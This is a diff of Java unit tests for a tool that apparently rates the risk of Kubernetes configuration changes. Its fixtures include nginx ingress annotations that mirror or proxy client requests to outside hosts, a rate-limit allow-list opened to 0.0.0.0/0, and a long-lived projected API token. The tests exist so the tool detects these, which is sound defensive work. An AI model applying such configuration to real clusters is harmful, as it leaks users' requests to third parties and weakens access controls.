@@ -526,4 +526,42 @@ class EffectAnalyzerTest {
         assertThat(effects(sync)).anyMatch(e -> e.family() == Family.EGRESS && e.risk() == Risk.MEDIUM
                 && e.sentence().startsWith("data is copied to object storage"));
     }
+
+    private static JsonNode ingress(String annotations) {
+        return json("{'apiVersion':'networking.k8s.io/v1','kind':'Ingress','metadata':{'name':'gtfs-feed','annotations':{" + annotations
+                + "}},'spec':{'rules':[{'host':'feed.transit.example','http':{'paths':[{'path':'/','pathType':'Prefix','backend':"
+                + "{'service':{'name':'gtfs-api','port':{'number':8080}}}}]}}]}}");
+    }
+
+    @Test
+    void an_ingress_that_mirrors_requests_to_an_outside_host_sends_data_out_and_one_that_exempts_every_address_opens_up() {
+        Action mirror = Fixtures.update("networking.k8s.io", "ingresses", "Ingress", "transit", "gtfs-feed",
+                ingress("'nginx.ingress.kubernetes.io/mirror-target':'https://ingest.partner-analytics.net/m$request_uri'"), ingress(""));
+        Action snippet = Fixtures.update("networking.k8s.io", "ingresses", "Ingress", "transit", "gtfs-feed",
+                ingress("'nginx.ingress.kubernetes.io/configuration-snippet':'mirror /m; location = /m { internal; proxy_pass "
+                        + "https://collector.partner-analytics.io$request_uri; }'"), ingress(""));
+        Action link = Fixtures.update("networking.k8s.io", "ingresses", "Ingress", "transit", "gtfs-feed",
+                ingress("'runbook':'https://wiki.partner-analytics.net/gtfs'"), ingress(""));
+        Action exempt = Fixtures.update("networking.k8s.io", "ingresses", "Ingress", "transit", "gtfs-feed",
+                ingress("'nginx.ingress.kubernetes.io/limit-whitelist':'10.40.0.0/16,0.0.0.0/0'"), ingress(""));
+
+        assertThat(only(effects(mirror), Family.EGRESS).risk()).isEqualTo(Risk.HIGH);
+        assertThat(only(effects(snippet), Family.EGRESS).sentence()).contains("forwards its clients' requests to https://collector.partner-analytics.io");
+        assertThat(effects(link)).noneMatch(e -> e.family() == Family.EGRESS && e.risk() != Risk.LOW);
+        assertThat(only(effects(exempt), Family.EXPOSURE).datum("allowList")).isEqualTo("every address");
+    }
+
+    @Test
+    void a_projected_service_account_token_the_pods_did_not_have_is_an_api_credential() {
+        String token = "{'name':'kube-api-token','projected':{'sources':[{'serviceAccountToken':{'path':'token','expirationSeconds':31536000}}]}}";
+        JsonNode before = json("{'apiVersion':'apps/v1','kind':'Deployment','metadata':{'name':'fleet-api'},'spec':{'template':{'spec':"
+                + "{'containers':[{'name':'api','image':'fleet/api:1.0'}]}}}}");
+        JsonNode after = json("{'apiVersion':'apps/v1','kind':'Deployment','metadata':{'name':'fleet-api'},'spec':{'template':{'spec':"
+                + "{'volumes':[" + token + "],'containers':[{'name':'api','image':'fleet/api:1.0'}]}}}}");
+
+        List<Effect> added = effects(Fixtures.update("apps", "deployments", "Deployment", "robots", "fleet-api", after, before));
+        List<Effect> kept = effects(Fixtures.update("apps", "deployments", "Deployment", "robots", "fleet-api", after, after));
+        assertThat(added).anyMatch(e -> e.datum("downgrade").equals("api-token") && e.risk() == Risk.MEDIUM);
+        assertThat(kept).noneMatch(e -> e.datum("downgrade").equals("api-token"));
+    }
 }
